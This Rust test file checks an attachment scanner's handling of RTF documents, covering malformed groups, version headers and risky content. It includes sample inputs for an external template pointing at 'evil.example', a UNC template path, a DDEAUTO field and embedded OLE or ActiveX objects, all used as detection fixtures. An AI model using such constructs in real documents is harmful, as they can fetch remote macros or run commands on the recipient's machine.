//! RTF.

use chat_attachments::{Finding, Reason};

use crate::support::{assert_found, assert_refused, judged};

#[test]
fn groups_must_be_balanced() {
    for text in [
        r"{\rtf1 a",
        r"{\rtf1 {a}",
        r"{\rtf1 \}",
        r"{\rtf1 a\",
        r"{\rtf1{\bin99999 }}",
    ] {
        assert_refused(
            text.as_bytes(),
            "a.rtf",
            Reason::Damaged,
            "a Rich Text document",
        );
    }
    for text in [r"{\rtf1 a}", r"{\rtf1\{\}\\ {a}}", "{\\rtf1 a}\r\n\0"] {
        let judgement = judged(text.as_bytes(), "a.rtf");
        assert!(
            judgement.is_accepted() && judgement.findings.is_empty(),
            "{text}"
        );
    }
}

#[test]
fn the_version_may_be_missing_or_zero_and_no_other() {
    for start in [
        r"{\rtf\ansi",
        r"{\rtf0\mac",
        r"{\rtf0 ",
        "{\\rtf\r\n",
        r"{\rtf{\info}",
    ] {
        let judgement = judged(format!("{start} a}}").as_bytes(), "a.rtf");
        assert!(judgement.is_accepted(), "{start}");
        // What is behind is looked at all the same.
        let object = format!(r"{start} {{\object{{\*\objdata 0105}}}}}}");
        assert_found(object.as_bytes(), "a.rtf", &[Finding::OleObject]);
    }
    for start in [
        r"{\rt\ansi",
        r"{\rtf2\ansi",
        r"{\rtfx\ansi",
        r"{\rtf01\ansi",
        r"{\rtf-1\ansi",
    ] {
        let text = format!("{start} a}}");
        let what = "a Rich Text file of an unknown version";
        assert_refused(text.as_bytes(), "a.rtf", Reason::NotAccepted, what);
    }
}

#[test]
fn objects_binaries_templates_and_dde_are_found() {
    let cases: [(&str, &[Finding]); 8] = [
        (r"{\rtf1{\object{\*\objdata 0105}}}", &[Finding::OleObject]),
        (r"{\rtf1{\object\objautlink}}", &[Finding::OleObject]),
        (r"{\rtf1{\object\objocx}}", &[Finding::ActiveX]),
        (r"{\rtf1\bin3 }}}x}", &[Finding::BinaryData]),
        (
            r"{\rtf1{\*\template http://evil.example/a.dotm}}",
            &[Finding::ExternalTemplate],
        ),
        (
            r"{\rtf1{\*\template \\\\server\\a.dotm}}",
            &[Finding::ExternalTemplate],
        ),
        (
            r"{\rtf1{\*\template \u104?ttp}}",
            &[Finding::ExternalTemplate],
        ),
        (
            r#"{\rtf1{\field{\*\fldinst {\lang1 DDEAUTO "a"}}}}"#,
            &[Finding::Dde],
        ),
    ];
    for (text, findings) in cases {
        assert_found(text.as_bytes(), "a.rtf", findings);
    }
}

#[test]
fn ordinary_documents_have_no_findings() {
    let cases = [
        r#"{\rtf1{\field{\*\fldinst HYPERLINK "http://a"}}}"#,
        r"{\rtf1\listtemplateid-1\bindata}",
    ];
    for text in cases {
        let judgement = judged(text.as_bytes(), "a.rtf");
        assert!(
            judgement.is_accepted() && judgement.findings.is_empty(),
            "{text} {judgement:?}"
        );
    }
}

#[test]
fn a_template_on_the_author_s_drive_is_told_and_accepted() {
    let judgement = judged(br"{\rtf1{\*\template C:\\Templates\\letter.dot}}", "a.rtf");
    assert!(judgement.is_accepted());
    assert_eq!(judgement.findings, [Finding::LocalTemplate]);
}
